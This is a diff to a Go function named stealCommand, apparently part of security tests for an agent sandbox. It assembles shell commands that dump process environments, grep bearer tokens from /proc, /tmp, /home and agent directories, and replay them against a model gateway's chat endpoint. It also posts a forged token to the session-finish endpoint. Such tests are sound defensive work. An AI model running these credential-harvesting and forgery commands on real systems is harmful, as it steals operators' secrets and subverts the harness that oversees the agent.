@@ -284,10 +284,11 @@ func stealCommand(gateway string) string {
 		`echo "processes: $(ls -d /proc/[0-9]* | wc -l)"`,
 		`for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' ' ' <"$f"; echo; done 2>/dev/null`,
 		`env`,
+		`chat='{"model":"scripted","messages":[{"role":"user","content":"hi"}]}'`,
 		`for t in $(grep -rhoE 'eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /var/run /agentry /tmp /home 2>/dev/null | sort -u); do ` +
-			`echo "found a token: $t"; wget -q -O- --header "Authorization: Bearer $t" ` + gateway + `/v1/models 2>&1 | head -c 300; echo; done`,
-		`echo "no token:"; wget -q -O- ` + gateway + `/v1/models 2>&1 | head -c 300; echo`,
-		`echo "forged finish:"; wget -q -O- --post-data '{}' --header "Authorization: Bearer forged" ` + gateway + `/v1/sessions/x/finish 2>&1 | head -c 300; echo`,
+			`echo "found a token: $t"; wget -q -O- --post-data "$chat" --header "Authorization: Bearer $t" ` + gateway + `/v1/chat/completions 2>&1 | head -c 300; echo; done`,
+		`echo "no token:"; wget -q -O- --post-data "$chat" ` + gateway + `/v1/chat/completions 2>&1 | head -c 300; echo`,
+		`echo "forged finish:"; wget -q -O- --post-data '{}' --header "Authorization: Bearer forged" ` + gateway + `/agentry/v1/finish 2>&1 | head -c 300; echo`,
 	}, "; ")
 }
 
